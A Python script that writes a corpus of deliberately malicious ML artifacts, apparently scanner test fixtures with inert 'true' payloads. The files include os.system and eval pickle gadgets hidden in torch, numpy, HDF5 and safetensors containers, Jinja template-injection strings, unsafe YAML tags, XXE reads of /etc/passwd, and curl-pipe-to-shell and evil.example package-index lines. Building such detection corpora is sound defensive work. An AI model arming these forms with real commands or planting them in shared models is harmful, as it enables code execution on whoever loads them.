"""Writes files that run code, or reach out, in some loader: none is ever loaded, and each payload is harmless.

usage: malicious.py FOLDER
"""

import base64
import io
import json
import pathlib
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib

ROOT = pathlib.Path(sys.argv[1])


def put(family, name, content):
    path = ROOT / family / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content if isinstance(content, bytes) else content.encode())


def short(text):
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def call(module, name, *arguments, protocol=4):
    """A pickle that calls `module.name` with texts."""
    values = b"".join(short(argument) for argument in arguments) if protocol >= 4 else b"".join(b"X" + struct.pack("<I", len(a)) + a.encode() for a in arguments)
    if protocol >= 4:
        return b"\x80\x04" + short(module) + short(name) + b"\x93(" + values + b"tR."
    if protocol == 0:
        return f"c{module}\n{name}\n(".encode() + b"".join(f"S'{a}'\n".encode() for a in arguments) + b"tR."
    return b"\x80\x02" + f"c{module}\n{name}\n(".encode() + values + b"tR."


GADGETS = """os.system os.popen os.execv os.spawnl os.posix_spawn os.remove os.putenv posix.system nt.system subprocess.Popen subprocess.run
subprocess.call subprocess.check_output subprocess.getoutput builtins.eval builtins.exec builtins.compile builtins.open builtins.__import__
builtins.getattr builtins.setattr builtins.map builtins.filter builtins.globals builtins.breakpoint builtins.input builtins.type builtins.help builtins.print
importlib.import_module importlib.reload runpy.run_path runpy.run_module runpy._run_code pty.spawn code.interact code.InteractiveInterpreter
codeop.compile_command commands.getoutput socket.socket socket.create_connection ssl.get_server_certificate urllib.request.urlopen urllib.request.urlretrieve
http.client.HTTPConnection ftplib.FTP smtplib.SMTP imaplib.IMAP4_stream poplib.POP3 nntplib.NNTP telnetlib.Telnet xmlrpc.client.ServerProxy webbrowser.open
shutil.rmtree shutil.copy shutil.move shutil.make_archive tempfile.mkstemp pickle.loads pickle.load _pickle.loads marshal.loads shelve.open dbm.open
sqlite3.connect ctypes.CDLL ctypes.util.find_library _ctypes.dlopen cffi.FFI multiprocessing.Process threading.Thread concurrent.futures.ThreadPoolExecutor
asyncio.run asyncio.create_subprocess_shell signal.signal sys.exit sys.settrace inspect.getsource types.FunctionType types.CodeType functools.partial functools.reduce
operator.attrgetter operator.methodcaller operator.itemgetter itertools.starmap timeit.timeit timeit.main trace.Trace cProfile.run profile.run pdb.run
bdb.Bdb doctest.testmod pydoc.pipepager pydoc.locate unittest.main linecache.getline fileinput.input glob.glob platform.popen distutils.spawn.spawn
distutils.file_util.write_file lib2to3.refactor.get_refactoring_tool idlelib.pyshell.ModifiedInterpreter ensurepip.bootstrap venv.create pip.main zipimport.zipimporter
logging.config.fileConfig logging.FileHandler configparser.ConfigParser.read mailcap.findmatch mimetypes.init gzip.open bz2.open lzma.open zipfile.ZipFile tarfile.open
io.open io.FileIO codecs.open pathlib.Path.write_text pathlib.Path.unlink uuid._get_command_stdout getpass.getuser readline.read_history_file atexit.register
gc.get_objects weakref.finalize numpy.load numpy.fromfile numpy.memmap numpy.loadtxt numpy.save numpy.testing._private.utils.runstring numpy.f2py.crackfortran.getlincoef numpy.distutils.exec_command.exec_command
pandas.read_pickle pandas.read_csv pandas.eval pandas.io.common.get_handle pandas.core.computation.eval.eval torch.load torch.hub.load torch.jit.load torch.save torch.utils.cpp_extension.load_inline
torch._dynamo.guards.GuardBuilder.get torch.distributed.rpc.rpc_sync joblib.load joblib.dump joblib.numpy_pickle.load sklearn.datasets.fetch_openml sklearn.utils.estimator_checks.eval
scipy.io.loadmat statsmodels.iolib.smpickle.load_pickle statsmodels.api.load keras.models.load_model keras.utils.get_file tensorflow.io.write_file tensorflow.saved_model.load
transformers.AutoModel.from_pretrained dill.loads dill._dill._import_module cloudpickle.cloudpickle._make_function cloudpickle.loads cloudpickle.cloudpickle.subimport yaml.unsafe_load
lightgbm.basic._load_lib xgboost.core._load_lib catboost.core.CatBoost.load_model acme.unknown_thing""".split()


def pickles():
    for number, path in enumerate(GADGETS):
        module, _, name = path.rpartition(".")
        put("pickle", path + [".pkl", ".joblib", ".bin", ".pickle"][number % 4], call(module, name, "true", protocol=[0, 2, 4][number % 3]))
    system = call("posix", "system", "true")
    dotted = b"\x80\x04" + short("collections") + short("OrderedDict.__init__.__globals__") + b"\x93."
    for name, content in {
        "build.pkl": b"\x80\x02ccollections\nOrderedDict\n}X\x08\0\0\0__init__cos\nsystem\nsb.",
        "inst.pkl": b"(S'true'\nios\nsystem\n.", "obj.pkl": b"(cos\nsystem\nS'true'\no.", "newobj.pkl": b"\x80\x02cos\nsystem\nX\4\0\0\0true\x85\x81.",
        "dotted.pkl": dotted, "second.pkl": pickle.dumps(1) + system, "no-stop.bin": system[:-1], "behind-text.pkl": pickle.dumps("x" * 70000) + system,
        "extension.pkl": b"\x80\x02\x82\x01.", "computed.pkl": b"\x80\x04\x8c\x03str)R\x8c\x06system\x93\x8c\x04true\x85R.",
        "memo.pkl": b"\x80\x04\x8c\x02os\x940\x8c\x06system\x940h\x00h\x01\x93\x8c\x04true\x85R.", "disguise.pkl": b"cos \nsystem\n(S'true'\ntR.",
        "inner.pkl": pickle.dumps({"blob": base64.b64encode(system).decode()}) + system,
    }.items():
        put("pickle", "form-" + name, content)


def packed(members):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return stream.getvalue()


def containers():
    system = call("posix", "system", "true")
    put("container", "torch.pt", packed({"archive/data.pkl": system, "archive/version": "3\n"}))
    put("container", "constants.pt", packed({"archive/data.pkl": b"\x80\x02}.", "archive/constants.pkl": system, "archive/code/x.py": "pass"}))
    put("container", "objects.npz", packed({"x.npy": npy("|O", system)}))
    put("container", "objects.npy", npy("|O", system))
    put("container", "tensor.pt", packed({"archive/data.pkl": b"\x80\x02ctorch.storage\n_load_from_bytes\nB" + struct.pack("<I", len(system)) + system + b"\x85R."}))
    put("container", "tensor.pkl", b"\x80\x04ctorch.storage\n_load_from_bytes\nB" + struct.pack("<I", len(system)) + system + b"\x85R.")
    put("container", "code.pt", packed({"archive/data.pkl": b"\x80\x02}.", "archive/code/__torch__.py": 'def f(x: Tensor) -> Tensor:\n  return torch.from_file("/etc/hostname", False, 3)\n'}))
    put("container", "operators.pt", packed({"archive/data.pkl": b"\x80\x02}.", "archive/code/__torch__.py": "def f(x: Tensor) -> Tensor:\n  return ops.acme.run(x)\n"}))
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for name, content in {"model_config.yaml": b"model:\n  _target_: os.system\n", "model_weights.ckpt": b"\x80\x02}."}.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    put("container", "model.nemo", stream.getvalue())
    for name, codec in {"x.pkl.gz": "gzip", "x.pkl.bz2": "bz2", "x.pkl.xz": "lzma", "x.joblib": "zlib"}.items():
        put("container", name, __import__(codec).compress(system))
    put("container", "model.7z", b"7z\xbc\xaf\x27\x1c\0\4" + bytes(40))
    put("container", "model.rar", b"Rar!\x1a\x07\x01\0" + bytes(40))
    put("container", "polyglot.safetensors", struct.pack("<Q", 2) + b"{}" + packed({"data.pkl": system}))


def npy(kind, data):
    header = f"{{'descr': '{kind}', 'fortran_order': False, 'shape': (1,), }}".encode()
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header + data


def templates():
    forms = ["{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ x|attr('__class__') }}", "{{ x['\\x5f\\x5fclass\\x5f\\x5f'] }}", "{% import 'os' as os %}", "{% include '/etc/passwd' %}",
             "{{ x['_' ~ '_class_' ~ '_'] }}", "{{ '{0.__class__}'.format(x) }}", "{{ x|map(attribute='__class__')|list }}", "{{ lipsum.__globals__['os'].popen('true').read() }}",
             "{{ x[['_','_','class','_','_']|join] }}", "{% set a = '__' %}{{ x[a ~ 'class' ~ a] }}", "{{ x['%c%cclass%c%c' % (95,95,95,95)] }}", "{{ cycler.__init__.__globals__.os.popen('true').read() }}"]
    for number, form in enumerate(forms):
        put("template", f"{number}/tokenizer_config.json", json.dumps({"chat_template": form}))
        put("template", f"file-{number}/chat_template.jinja", form)
        put("template", f"several-{number}/tokenizer_config.json", json.dumps({"chat_template": [{"name": "default", "template": "{{ x }}"}, {"name": "tool", "template": form}]}))
    text = lambda value: struct.pack("<Q", len(value.encode())) + value.encode()
    for number, form in enumerate(forms[:4]):
        put("template", f"model-{number}.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + text("tokenizer.chat_template") + struct.pack("<I", 8) + text(form) + bytes(64))


def configurations():
    for name, text in {
        "auto_map/config.json": '{"auto_map": {"AutoModel": "modeling.Model"}}', "remote/config.json": '{"trust_remote_code": true}',
        "pipeline/model_index.json": '{"_class_name": ["pipeline", "Mine"]}', "part/model_index.json": '{"_class_name": "P", "unet": ["mine", "Net"]}',
        "modules/modules.json": '[{"type": "os.system"}]', "peft/adapter_config.json": '{"auto_mapping": {"base_model_class": "x", "parent_library": "os"}}',
        "hydra/config.yaml": "model:\n  _target_: os.system\n  command: 'true'\n", "hydra2/config.json": '{"a": {"_target_": "builtins.eval"}}', "hydra3/config.yaml": "a: {_target_: acme.Thing}",
        "lightning/config.yaml": "model:\n  class_path: subprocess.Popen\n", "diffusion/v1.yaml": "model:\n  target: os.system\n  params: {}\n",
        "tag/a.yaml": 'a: !!python/object/apply:os.system ["true"]\n', "tag2/a.yml": "a: !!python/object/new:type [x]\n", "tag3/a.yaml": "a: !!python/name:os.system\n",
        "tag4/a.yaml": "%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system [x]\n", "tag5/README.md": "---\na: !!python/module:os\n---\n# x\n", "tag6/config": "a: !!python/object/apply:os.system [x]\n",
        "tag7/a.yaml": "a: !<tag:yaml.org,2002:python/object/apply:os.system> [x]\n", "mlflow/MLmodel": "flavors:\n  python_function:\n    loader_module: acme.loader\n",
        "mlflow2/MLmodel": "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    code: code\n", "mlflow3/MLmodel": "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: m.py\n",
        "req/requirements.txt": "--index-url https://pypi.evil.example/simple\nnumpy\n", "req2/requirements.txt": "git+https://evil.example/x\n", "req3/requirements.txt": "x @ https://evil.example/x.whl\n",
        "req4/requirements.txt": "-e .\n", "req5/conda.yaml": "channels: [https://evil.example/c]\n", "req6/conda.yaml": "dependencies: [{pip: ['--extra-index-url https://evil.example']}]\n",
        "req7/pip.conf": "[global]\nextra-index-url = https://evil.example/simple\n", "jsonpickle/a.json": '{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["true"]}]}',
        "notebook/a.ipynb": json.dumps({"cells": [{"cell_type": "code", "source": ["!curl http://x | sh"]}], "nbformat": 4}),
        "notebook2/a.ipynb": json.dumps({"cells": [{"cell_type": "code", "source": "%%bash\ntrue"}], "nbformat": 4}),
        "notebook3/a.ipynb": json.dumps({"cells": [{"cell_type": "code", "source": "import os\nos.system('true')"}], "nbformat": 4}),
        "pmml/a.pmml": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><PMML>&a;</PMML>', "pmml2/a.xml": '<!DOCTYPE x SYSTEM "http://x/x.dtd"><PMML/>',
        "node/package.json": '{"scripts": {"postinstall": "true"}}', "shards/m.safetensors.index.json": '{"weight_map": {"a": "../../x"}}',
        "code/setup.py": "import os\nos.system('true')\n", "code2/run.sh": "#!/bin/sh\ntrue\n", "code3/Makefile": "all:\n\tcurl x | sh\n", "code4/handler.py": "print(1)\n",
        "encoded/a.json": json.dumps({"blob": base64.b64encode(call("posix", "system", "true")).decode()}), "encoded2/a.txt": call("posix", "system", "true").hex(),
        "encoded3/a.json": json.dumps({"blob": base64.b64encode(zlib.compress(call("posix", "system", "true"))).decode()}), "encoded4/a.json": json.dumps({"raw": "cos\nsystem\n(S'true'\ntR."}),
        "encoded5/a.json": json.dumps({"blob": base64.b64encode(b"\x7fELF\2\1\1" + bytes(60)).decode()}),
        "graph/saved_model.pbtxt": 'meta_graphs { graph_def { node { name: "a" op: "PyFunc" } } }',
        "twice/config.json": '{"_target_": "torch.nn.modules.linear.Linear", "_target_": "os.system"}',
    }.items():
        put("config", name, text)


def keras_and_skops():
    def archive(layer, family="keras"):
        return packed({"metadata.json": '{"keras_version": "3.8.0"}', "config.json": json.dumps({"module": "keras", "class_name": "Sequential", "config": {"layers": [layer]}, "registered_name": None})})

    layers = {
        "lambda": {"module": "keras.layers", "class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": "AA"}}}},
        "tfsm": {"module": "keras.layers", "class_name": "TFSMLayer", "config": {"filepath": "/tmp/x"}},
        "torch": {"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"module": "AA"}},
        "get-file": {"module": "keras.utils", "class_name": "get_file", "config": {"origin": "http://x"}},
        "vocabulary": {"module": "keras.layers", "class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}},
        "os": {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"},
        "builtins": {"module": "builtins", "class_name": "function", "config": "eval"},
        "registered": {"module": None, "class_name": "Mine", "registered_name": "acme>Mine"},
        "foreign": {"module": "acme.layers", "class_name": "Mine"},
        "io": {"class_name": "TFOpLambda", "config": {"function": "io.read_file"}},
        "jax": {"module": "keras.layers", "class_name": "JaxLayer", "config": {}},
        "saving": {"module": "keras.saving", "class_name": "load_model", "config": {}},
    }
    for name, layer in layers.items():
        put("keras", name + ".keras", archive(layer))
    node = lambda module, name, loader: json.dumps({"__module__": module, "__class__": name, "__loader__": loader, "__id__": 1, "protocol": 2, "_skops_version": "0.11"})
    for name, schema in {"function": node("posix", "system", "FunctionNode"), "type": node("subprocess", "Popen", "TypeNode"), "method": node("builtins", "dict", "MethodNode"),
                         "operator": node("operator", "methodcaller", "OperatorFuncNode"), "unknown": node("acme", "Thing", "ObjectNode"), "loader": node("builtins", "dict", "OtherNode")}.items():
        put("skops", name + ".skops", packed({"schema.json": schema}))
    try:
        import h5py
    except ImportError:
        return
    for name, layer in list(layers.items())[:6]:
        path = ROOT / "hdf5" / (name + ".h5")
        path.parent.mkdir(parents=True, exist_ok=True)
        with h5py.File(path, "w") as file:
            file.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"layers": [layer]}})
    for name, link in {"external": h5py.ExternalLink("/etc/other.h5", "/x")}.items():
        with h5py.File(ROOT / "hdf5" / (name + ".h5"), "w") as file:
            file["x"] = link
    with h5py.File(ROOT / "hdf5" / "raw.h5", "w") as file:
        file.create_dataset("x", (2,), "f4", external=[("/etc/hostname", 0, 8)])
    with h5py.File(ROOT / "hdf5" / "pickled.h5", "w") as file:
        import numpy
        file.attrs["value"] = numpy.bytes_(call("posix", "system", "true", protocol=0))


def graphs():
    def number(n):
        out = b""
        while n > 127:
            out, n = out + bytes([n & 127 | 128]), n >> 7
        return out + bytes([n])

    field = lambda n, content: number(n << 3 | 2) + number(len(content)) + content
    for operation in ("PyFunc", "PyFuncStateless", "EagerPyFunc", "ReadFile", "WriteFile", "MatchingFiles", "PrintV2", "DebugIdentity", "AcmeOp", "TextLineDataset", "WholeFileReaderV2"):
        node = field(1, field(1, b"n") + field(2, operation.encode()))
        put("graph", operation + "/saved_model.pb", b"\x08\1" + field(2, field(2, node)))
        put("graph", operation + "-function/saved_model.pb", b"\x08\1" + field(2, field(2, field(2, field(1, field(3, field(2, operation.encode())))))))
        put("graph", operation + "-frozen/graph.pb", node)
    tensor = lambda more: b"\x08\2\x10\1" + more
    model = lambda domain, more: b"\x08\x08" + field(7, field(1, field(4, b"Relu") + field(7, domain)) + field(5, tensor(more))) + field(8, b"\x10\x0d")
    entry = lambda key, value: field(13, field(1, key) + field(2, value))
    for name, content in {
        "outside": model(b"", entry(b"location", b"../../etc/passwd")), "absolute": model(b"", entry(b"location", b"/etc/passwd")), "domain": model(b"com.acme", field(9, bytes(8))),
        "size": model(b"", field(9, bytes(7))), "nothing": model(b"", b""), "trailing": model(b"", field(9, bytes(8))) + b"\x7fELF", "missing": model(b"", entry(b"location", b"w.data")),
    }.items():
        put("onnx", name + ".onnx", content)
    meta = lambda value: (lambda header: struct.pack("<Q", len(header)) + header)(json.dumps({"__metadata__": {"x": value}}).encode())
    put("safetensors", "pickle.safetensors", meta(base64.b64encode(call("posix", "system", "true")).decode()))
    put("safetensors", "template.safetensors", meta("{{ ''.__class__ }}"))
    put("program", "a.bin", b"\x7fELF\2\1\1" + bytes(60))
    put("program", "b.dll", b"MZ" + bytes(62) + b"PE\0\0" + bytes(20))
    put("program", "c.so", b"\xcf\xfa\xed\xfe" + bytes(60))
    put("program", "d.pyc", b"\xa7\r\r\n" + bytes(40))


if __name__ == "__main__":
    for family in (pickles, containers, templates, configurations, keras_and_skops, graphs):
        family()
    print(sum(len(list(folder.iterdir())) for folder in ROOT.iterdir()), "files")
